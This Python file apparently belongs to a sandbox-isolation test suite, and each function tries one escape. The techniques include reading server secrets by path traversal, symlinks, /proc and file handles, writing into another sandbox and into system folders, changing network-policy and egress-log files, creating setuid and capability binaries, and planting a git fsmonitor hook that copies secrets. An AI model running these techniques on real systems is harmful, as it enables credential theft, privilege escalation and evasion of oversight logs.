# ruff: noqa: PTH101, PTH116, PTH123, PTH208
"""Attempts to read and write files that do not belong to the sandbox."""

import ctypes
import os
import stat
import struct
import subprocess
from pathlib import Path

from attempts.catalog import Hints, Refused, attempt, call, find_secret, list_pids

READ = "Read the server's secrets and data"
OTHERS = "Reach another sandbox"
WRITE = "Change the machine or the server's own files"
FOLLOW = "Let the server follow a link"


@attempt(READ, "`server.env` by its path", proof="server_env")
def read_server_env(hints: Hints) -> str:
    return Path(hints["server_env"]).read_text()


@attempt(READ, "`server.env` by `../` from the workspace", proof="server_env")
def read_by_dots(hints: Hints) -> str:
    error: OSError | None = None
    for depth in range(16):
        try:
            return Path("../" * depth + hints["server_env"].lstrip("/")).read_text()
        except OSError as raised:
            error = raised
    raise error or Refused()


@attempt(READ, "`server.env` by a symbolic link in the workspace", proof="server_env")
def read_by_symlink(hints: Hints) -> str:
    link = Path("innocent.txt")
    link.unlink(missing_ok=True)
    link.symlink_to(hints["server_env"])
    return link.read_text()


@attempt(READ, "`server.env` by a hard link into the workspace", proof="server_env")
def read_by_hard_link(hints: Hints) -> str:
    Path("hard.txt").unlink(missing_ok=True)
    os.link(hints["server_env"], "hard.txt")
    return Path("hard.txt").read_text()


@attempt(READ, "`server.env` by `/proc/<pid>/root` of any process", proof="server_env")
def read_by_proc_root(hints: Hints) -> str:
    for pid in [hints["server_pid"], *list_pids()]:
        try:
            return Path(f"/proc/{pid}/root{hints['server_env']}").read_text()
        except OSError:
            continue
    raise Refused("no process has a root with this file")


@attempt(READ, "`server.env` by `/proc/<pid>/cwd` of any process", proof="server_env")
def read_by_proc_cwd(hints: Hints) -> str:
    for pid in [hints["server_pid"], *list_pids()]:
        try:
            return Path(f"/proc/{pid}/cwd/server.env").read_text()
        except OSError:
            continue
    raise Refused("no process works in the data folder")


@attempt(READ, "a file that the server has open, by `/proc/<pid>/fd`", proof="open_file")
def read_by_proc_fd(hints: Hints) -> str:
    for pid in [hints["victim"], *list_pids()]:
        for number in range(3, 20):
            try:
                data = Path(f"/proc/{pid}/fd/{number}")
                if not stat.S_ISREG(data.stat().st_mode):
                    continue
                return find_secret(data.read_bytes(), "the file")
            except (OSError, Refused):
                continue
    raise Refused("no open file of another process can be opened")


@attempt(
    READ, "`server.env` by a file handle (`open_by_handle_at`)", proof="server_env", needs_root=True
)
def read_by_handle(hints: Hints) -> str:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    path = hints["server_env"].encode()
    call("name_to_handle_at", -100, ctypes.c_char_p(path), handle, ctypes.byref(mount_id), 0)
    folder = os.open(".", os.O_RDONLY)
    descriptor = call("open_by_handle_at", folder, handle, os.O_RDONLY)
    return os.read(descriptor, 10_000).decode()


@attempt(READ, "list the data folder", check="")
def list_data_folder(hints: Hints) -> str:
    names = os.listdir(hints["data_dir"])
    if "server.env" not in names:
        raise Refused(f"the folder contains only {names}")
    return " ".join(sorted(names))


@attempt(READ, "the database's files", proof="database")
def read_database_files(hints: Hints) -> str:
    for folder, _, names in os.walk(hints["data_dir"] + "/postgresql"):
        for name in names:
            try:
                return find_secret(Path(folder, name).read_bytes(), name)
            except (OSError, Refused):
                continue
    raise Refused("no file of the database contains the row")


# --- Another sandbox ----------------------------------------------------------------


@attempt(OTHERS, "read its file", proof="other_file")
def read_other_sandbox(hints: Hints) -> str:
    return Path(hints["other_folder"], "project/secret.txt").read_text()


@attempt(OTHERS, "read its file by `/proc/<pid>/root`", proof="other_file")
def read_other_by_proc(hints: Hints) -> str:
    for pid in [*hints["other_pids"], *list_pids()]:
        for path in (hints["other_workspace"], hints["other_folder"] + "/project"):
            try:
                return Path(f"/proc/{pid}/root{path}/secret.txt").read_text()
            except OSError:
                continue
    raise Refused("no process has a root with this file")


@attempt(OTHERS, "write a file into its workspace", check="other_written")
def write_other_sandbox(hints: Hints) -> str:
    Path(hints["other_folder"], "project/intruder.txt").write_text("here")
    return "written"


# --- Writing ------------------------------------------------------------------------


def _write_into(folder: str) -> str:
    path = Path(folder, f"escape-marker-{os.getpid()}")
    path.write_text("here")
    try:
        return path.read_text() + f" in {folder}"
    finally:
        path.unlink()


@attempt(WRITE, "create a file in `/usr/bin`", needs_root=True)
def write_usr(hints: Hints) -> str:
    return _write_into("/usr/bin")


@attempt(WRITE, "create a file in `/etc`", needs_root=True)
def write_etc(hints: Hints) -> str:
    return _write_into("/etc")


@attempt(WRITE, "create a file in the engine's folder", check="")
def write_engine(hints: Hints) -> str:
    return _write_into(hints["engine_dir"])


@attempt(WRITE, "create a file in the engine's Python", check="")
def write_python(hints: Hints) -> str:
    return _write_into(hints["python_dir"])


@attempt(WRITE, "change `relay.py`, the sandbox's process 1", check="relay_changed")
def write_relay(hints: Hints) -> str:
    error: OSError | None = None
    for path in ("/opt/openhands/relay.py", hints["relay"]):
        try:
            with open(path, "a") as file:
                file.write("# changed\n")
            return f"changed {path}"
        except OSError as raised:
            error = raised
    raise error or Refused()


def _write_control_file(hints: Hints, name: str) -> str:
    error: OSError | None = None
    for path in (f"{hints['own_folder']}/{name}", f"../{name}", f"/workspace/{name}"):
        try:
            with open(path, "a") as file:
                file.write(" intruder ")
            return f"changed {path}"
        except OSError as raised:
            error = raised
    raise error or Refused()


@attempt(WRITE, "change `run.json`, the server's handle", check="run.json")
def write_run_json(hints: Hints) -> str:
    return _write_control_file(hints, "run.json")


@attempt(WRITE, "change `policy.json`, the network rules", check="policy.json")
def write_policy_json(hints: Hints) -> str:
    return _write_control_file(hints, "policy.json")


@attempt(WRITE, "change `keeper.json`", check="keeper.json")
def write_keeper_json(hints: Hints) -> str:
    return _write_control_file(hints, "keeper.json")


@attempt(WRITE, "change `egress.log`, the log of decisions", check="egress.log")
def write_egress_log(hints: Hints) -> str:
    return _write_control_file(hints, "egress.log")


@attempt(
    WRITE,
    "make a program that the host runs as its owner (setuid copy of `id`)",
    check="setuid_file",
)
def make_setuid_program(hints: Hints) -> str:
    subprocess.run(["cp", "/usr/bin/id", "setuid-id"], check=True)
    os.chmod("setuid-id", 0o4755)
    return oct(os.stat("setuid-id").st_mode)


@attempt(WRITE, "give a file to the host's root (`chown`)", check="root_file", needs_root=True)
def give_file_to_root(hints: Hints) -> str:
    Path("for-root").write_text("x")
    os.chown("for-root", 0, 0)
    return "changed"


@attempt(
    WRITE,
    "give a program capabilities on the host (`setcap`)",
    check="capable_file",
    needs_root=True,
)
def give_capabilities(hints: Hints) -> str:
    subprocess.run(["cp", "/usr/bin/id", "capable-id"], check=True)
    value = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)
    os.setxattr("capable-id", "security.capability", value)
    return "set"


@attempt(WRITE, "make a node of the machine's disk (`mknod`)", needs_root=True)
def make_disk_node(hints: Hints) -> str:
    path = Path("disk")
    path.unlink(missing_ok=True)
    os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(*hints["disk"]))
    # A machine may refuse to open its disk to all; the node alone is then the success.
    return f"node {os.stat(path).st_rdev:x}"


# --- Links that the server follows ----------------------------------------------------


@attempt(
    FOLLOW, "replace the project's folder by a link into the data folder, then fork", check="forked"
)
def replace_project(hints: Hints) -> str:
    project = Path.cwd()
    os.chdir("/")
    project.rename(f"{project}.away")
    project.symlink_to(hints["followed"])
    return "replaced"


@attempt(FOLLOW, "put a link into the data folder into the project, then fork", check="forked")
def link_in_project(hints: Hints) -> str:
    Path("data-link").unlink(missing_ok=True)
    Path("data-link").symlink_to(hints["followed"])
    return "linked"


@attempt(
    FOLLOW,
    "replace `engine.log` by a link to `server.env`, then end the engine",
    check="log_followed",
)
def replace_engine_log(hints: Hints) -> str:
    error: OSError | None = None
    for path in (f"{hints['own_folder']}/engine.log", "../engine.log", "/workspace/engine.log"):
        try:
            Path(path).unlink(missing_ok=True)
            Path(path).symlink_to(hints["server_env"])
            return f"replaced {path}"
        except OSError as raised:
            error = raised
    raise error or Refused()


@attempt(
    FOLLOW, "a Git repository whose `core.fsmonitor` runs when changes are listed", check="git_ran"
)
def plant_git_config(hints: Hints) -> str:
    subprocess.run(["git", "init", "-q", "trap"], check=True)
    hook = Path("trap/hook.sh").absolute()
    hook.write_text(f"#!/bin/sh\ncat {hints['server_env']} > {hook.parent}/stolen 2>&1\n")
    hook.chmod(0o755)
    subprocess.run(["git", "-C", "trap", "config", "core.fsmonitor", str(hook)], check=True)
    Path("trap/a.txt").write_text("a")
    return "planted"
